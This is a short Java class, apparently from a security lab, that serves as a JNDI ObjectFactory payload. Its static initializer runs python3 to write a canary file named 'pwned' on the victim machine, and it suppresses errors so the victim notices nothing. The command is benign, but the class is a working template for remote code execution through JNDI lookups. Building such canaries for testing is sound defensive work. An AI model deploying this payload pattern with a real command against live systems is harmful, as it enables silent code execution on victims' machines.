import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.spi.ObjectFactory;

/**
 * An interpreter payload: its static initializer runs
 * {@code python3 -c "open('pwned','w').write('pwned')"}, which writes the canary file
 * {@code pwned} in the victim's working directory without any shell.
 */
public class LabPython implements ObjectFactory {
    static {
        try {
            Runtime.getRuntime()
                    .exec(new String[] {"python3", "-c", "open('pwned','w').write('pwned')"});
        } catch (Exception e) {
            // A payload keeps quiet: the victim must not notice anything.
        }
    }

    @Override
    public Object getObjectInstance(Object obj, Name name, Context ctx, Hashtable<?, ?> env) {
        return "pwned-by-LabPython";
    }
}
